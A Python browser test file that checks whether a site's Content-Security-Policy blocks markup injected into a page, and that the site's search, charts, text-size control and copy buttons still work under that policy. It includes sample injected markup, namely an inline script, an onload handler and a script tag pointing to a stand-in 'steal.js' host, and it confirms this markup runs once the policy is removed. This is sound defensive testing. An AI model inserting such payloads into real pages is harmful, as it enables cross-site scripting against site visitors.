"""The Content-Security-Policy, in Chromium: what slipped into a page would not run, and the
site's own features all work under it (search, charts, text size, copy buttons).

Escaping keeps a record's text inert (tests/test_site_safety.py); these tests suppose it failed:
markup is put into a served page by hand and must stay dead. Each also loads the same page
without the policy, where the same markup does run: the test would see a policy that allows it.
"""
from __future__ import annotations

import re

import pytest

pytestmark = pytest.mark.browser

POLICY_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="[^"]*">\s*')
# What an attacker would slip in if a record's text were not escaped.
INJECTED = (
    '<script>window.khcnRan = (window.khcnRan || []).concat("inline script")</script>'
    '<img src="../../assets/images/favicon.png" alt="" '
    'onload="window.khcnRan = (window.khcnRan || []).concat(\'event handler\')">'
    '<script src="https://example.org/steal.js"></script>'
    '<p id="khcn-injected-style" style="color: rgb(255, 0, 0)">x</p>'
)
VIOLATIONS = """() => new Promise(done => setTimeout(() => done(window.khcnViolations || []), 300))"""
RECORD_VIOLATIONS = """
    window.khcnViolations = [];
    document.addEventListener("securitypolicyviolation",
        event => window.khcnViolations.push(event.effectiveDirective + " " + (event.blockedURI || "")));
"""


def open_with(page, url: str, change) -> None:
    """Load `url` with its HTML passed through `change` on the way (as a host would serve it)."""
    def serve(route):
        response = route.fetch()
        route.fulfill(response=response, body=change(response.text()))
    page.route(url, serve)
    page.add_init_script(RECORD_VIOLATIONS)
    page.goto(url, wait_until="networkidle")


def inject(html: str) -> str:
    return html.replace('<article class="md-content__inner md-typeset">',
                        '<article class="md-content__inner md-typeset">' + INJECTED, 1)


def test_markup_slipped_into_a_page_does_not_run(new_page, base_url):
    url = base_url + "/tinh/lao-cai/"
    open_with(new_page, url, inject)
    assert new_page.evaluate("() => window.khcnRan") is None
    color = new_page.eval_on_selector("#khcn-injected-style", "e => getComputedStyle(e).color")
    assert color != "rgb(255, 0, 0)"
    refused = new_page.evaluate(VIOLATIONS)
    assert {v.split()[0] for v in refused} == {"script-src-elem", "script-src-attr", "style-src-attr"}
    assert "https://example.org/steal.js" in " ".join(refused)
    # The outside script was refused by the page itself: no request ever left.
    assert new_page.khcn_log.outside_requests == []


def test_without_the_policy_the_same_markup_runs(new_page, base_url):
    url = base_url + "/tinh/lao-cai/"
    open_with(new_page, url, lambda html: inject(POLICY_META.sub("", html)))
    assert sorted(new_page.evaluate("() => window.khcnRan")) == ["event handler", "inline script"]
    assert new_page.khcn_log.outside_requests == ["https://example.org/steal.js"]


def test_every_page_loads_with_no_refusal(browser, base_url, built_site, new_page):
    pages = sorted(p.relative_to(built_site).as_posix() for p in built_site.rglob("*.html"))
    assert len(pages) > 40
    new_page.add_init_script(RECORD_VIOLATIONS)
    for path in pages:
        new_page.goto(f"{base_url}/{path}", wait_until="load")
        assert new_page.evaluate(VIOLATIONS) == [], path
    assert [e for e in new_page.khcn_log.console_errors if "Content Security Policy" in e] == []


def test_search_charts_text_size_and_copy_work_under_the_policy(new_page, base_url, settled):
    page = new_page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.add_init_script(RECORD_VIOLATIONS)
    page.goto(base_url + "/so-lieu/2022-2023/", wait_until="networkidle")
    settled(page)
    # Charts: bars drawn by the site's stylesheet (charts.css) from classes, no inline style:
    # without the stylesheet a bar has no width and no colour.
    chart = page.locator(".khcn-chart .khcn-bars").first
    assert chart.bounding_box()["height"] > 50
    bar = page.eval_on_selector(".khcn-chart .khcn-bars li:not(.khcn-ticks)",
                                "e => { const s = getComputedStyle(e, '::after');"
                                " return [s.backgroundColor, parseFloat(s.width)]; }")
    assert bar[0] not in ("", "rgba(0, 0, 0, 0)", "transparent") and bar[1] > 0, bar
    # Text size: the control's script runs and the size changes.
    before = page.evaluate("() => getComputedStyle(document.documentElement).fontSize")
    page.get_by_role("button", name="Tăng cỡ chữ", exact=True).click()
    assert page.evaluate("() => getComputedStyle(document.documentElement).fontSize") != before
    # Search: Material's bundle starts its worker, which answers.
    page.get_by_role("textbox", name="Tìm trong bản tin, tỉnh và số liệu").click()
    page.keyboard.type("Lào Cai", delay=20)
    page.locator(".md-search-result__list .md-search-result__link").first.wait_for()
    page.keyboard.press("Escape")
    # Copy buttons: beside each citation of a bulletin (plain text, and BibTeX once opened).
    page.goto(base_url + "/ban-tin/2023-04/", wait_until="networkidle")
    page.locator("summary", has_text="BibTeX").click()
    for block in ("#trich-dan-van-ban", "#trich-dan-bibtex"):
        page.evaluate("() => navigator.clipboard.writeText('')")
        page.locator(f'button[data-khcn-copy="{block}"]').click()
        expected = page.locator(block).inner_text().strip()
        assert expected != ""
        # The copy (khcn.js, navigator.clipboard) resolves after the click returns.
        page.wait_for_function("text => navigator.clipboard.readText().then(t => t.trim() === text)", arg=expected)
    assert page.evaluate(VIOLATIONS) == []
